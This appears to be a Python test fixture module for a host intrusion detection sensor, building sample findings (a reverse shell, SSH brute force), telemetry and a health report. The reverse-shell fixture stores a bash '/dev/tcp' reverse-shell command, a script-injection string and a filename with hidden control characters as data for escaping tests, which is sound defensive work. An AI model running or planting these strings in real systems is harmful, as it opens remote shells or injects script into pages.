# SPDX-License-Identifier: Apache-2.0
"""Findings as a sensor would write them, hostile text included, and a health report."""

from __future__ import annotations

import msgspec

from innerwarden.clock import NS, realtime_ns, rfc3339
from innerwarden.model.entity import EntityRef, EntityType
from innerwarden.model.finding import (
    Evidence,
    Finding,
    IncidentFields,
    Process,
    ProcessRef,
    Telemetry,
    TelemetryFields,
)
from innerwarden.model.health import (
    CollectorHealth,
    DetectorsHealth,
    DisabledDetector,
    HookHealth,
    ProcessTableHealth,
    RingHealth,
    SensorHealth,
)
from innerwarden.model.severity import Severity

SCRIPT = "<script>alert('argv')</script>"
HIDDEN = "/tmp/invoice\u202efdp.sh\x1b[2J"
#: State of a response -> its target.
RESPONSES = {"proposed": "198.51.100.31", "active": "198.51.100.32", "undone": "198.51.100.33"}
LOCAL_IP = "198.51.100.7"


def ancestors() -> tuple[ProcessRef, ...]:
    """Nearest first, as on the wire."""
    return (
        ProcessRef(
            pid=4100,
            start_ns=90,
            ppid=871,
            exe="/usr/bin/bash",
            argv=("-bash",),
            uid=1000,
            user="ana",
            login_uid=1000,
            cwd="/home/ana",
        ),
        ProcessRef(
            pid=871, start_ns=50, ppid=1, exe="/usr/sbin/sshd", argv=("sshd: ana [priv]",), uid=0, user="root"
        ),
        ProcessRef(
            pid=1,
            start_ns=1,
            exe="/usr/lib/systemd/systemd",
            argv=("/sbin/init", "splash"),
            uid=0,
            user="root",
        ),
    )


def reverse_shell(ts_ns: int | None = None, number: int = 0) -> Finding:
    """Critical, with a process tree and text that tries to break out of the page."""
    ts_ns = realtime_ns() if ts_ns is None else ts_ns
    ts = rfc3339(ts_ns)
    process = Process(
        pid=4242 + number,
        start_ns=100,
        ppid=4100,
        exe="/usr/bin/bash",
        comm="bash",
        argv=("bash", "-c", f"exec 5<>/dev/tcp/{LOCAL_IP}/4444; {SCRIPT}", HIDDEN),
        uid=1000,
        user="ana",
        login_uid=1000,
        cwd="/tmp/<b>work",
        ancestors=ancestors(),
    )
    return Finding(
        ts=ts,
        detector="reverse_shell",
        severity=Severity.CRITICAL,
        fields=IncidentFields(
            incident_id=f"reverse_shell:{process.pid}:/tmp/a b?{number}:{ts}",
            host="web-1",
            title="Shell wired to a network socket",
            summary=f"bash (pid {process.pid}) reads its commands from {LOCAL_IP}:4444 {SCRIPT}",
            evidence=(
                Evidence(
                    kind="network.connect",
                    text=f"bash connected to {LOCAL_IP} port 4444",
                    ts=rfc3339(ts_ns - NS),
                    details={"dst_ip": LOCAL_IP, "dst_port": 4444, "src_ip": None},
                ),
                Evidence(
                    kind="process.exec",
                    text=f"bash started {SCRIPT}",
                    ts=ts,
                    details={"argv": SCRIPT, "exe_path": "/usr/bin/bash"},
                ),
            ),
            recommended_checks=(
                "Look at the connection: `ss -tnp`",
                "Ask ana whether this session is theirs",
            ),
            tags=("shell", SCRIPT),
            entities=(EntityRef.ip(LOCAL_IP), EntityRef.user("ana"), EntityRef(EntityType.PATH, HIDDEN)),
            attack=("T1059.004", "T1071"),
            process=process,
            blind=("12 file.open records were lost in the minute before",),
            suppressed_count=3,
        ),
    )


def brute_force(ts_ns: int | None = None, number: int = 0) -> Finding:
    """High, from a log: no process."""
    ts_ns = realtime_ns() if ts_ns is None else ts_ns
    ts = rfc3339(ts_ns)
    address = f"203.0.113.{number % 250}"
    return Finding(
        ts=ts,
        detector="ssh_brute_force",
        severity=Severity.HIGH,
        fields=IncidentFields(
            incident_id=f"ssh_brute_force:{address}:{ts}",
            host="web-1",
            title="Many failed SSH logins from one address",
            summary=f"{address} failed 10 times in 60 s to log in over SSH",
            evidence=(Evidence(kind="window", text="10 failures in 60 s", ts=ts, details={"count": 10}),),
            entities=(EntityRef.ip(address),),
            attack=("T1110.001",),
        ),
    )


def telemetry(ts_ns: int | None = None) -> Telemetry:
    return Telemetry(
        ts=rfc3339(realtime_ns() if ts_ns is None else ts_ns),
        detector="telemetry",
        severity=Severity.DEBUG,
        fields=TelemetryFields(host="web-1", period_s=60.0, events={"process.exec": 4200}, lost={"hits": 1}),
    )


def health(ts_ns: int | None = None) -> SensorHealth:
    """A sensor with one proven hook, one that is not, one that the kernel lacks, and a loss."""
    ts = rfc3339(realtime_ns() if ts_ns is None else ts_ns)
    return SensorHealth(
        ts=ts,
        pid=4711,
        version="0.1.0",
        hooks=(
            HookHealth(
                name="iw_sched_process_exec",
                kind="process.exec",
                state="attached",
                fires=123456,
                canary="working",
                canary_ts=ts,
            ),
            HookHealth(name="iw_inet_sock_set_state", kind="network.connect", state="attached", fires=42),
            HookHealth(
                name="iw_bpf",
                kind="kernel.bpf",
                state="absent",
                canary="absent",
                reason="kernel has no such tracepoint",
                lost_techniques=("T1014", "T1562.001"),
            ),
        ),
        rates={"process.exec": 12.5, "file.open": 830.0},
        totals={"process.exec": 123456, "file.open": 9876543, "kernel.bpf": 3},
        lost={"ring.bulk": 1200, "hits": 0},
        rings=(RingHealth(name="prio", pending_bytes=4096, size_bytes=8 << 20, consumed=9_876_543),),
        collectors=(
            CollectorHealth(id="auth_log", state="working", lines=120, matched=80, malformed=1),
            CollectorHealth(id="journald", state="absent", reason="journalctl is not installed"),
        ),
        detectors=DetectorsHealth(
            loaded=19, disabled=(DisabledDetector(id="odd_one", reason="raised 5 times"),)
        ),
        process_table=ProcessTableHealth(entries=214, evicted=7),
        rss_bytes=28 << 20,
    )


def line(finding: Finding | Telemetry) -> bytes:
    return msgspec.json.encode(finding) + b"\n"
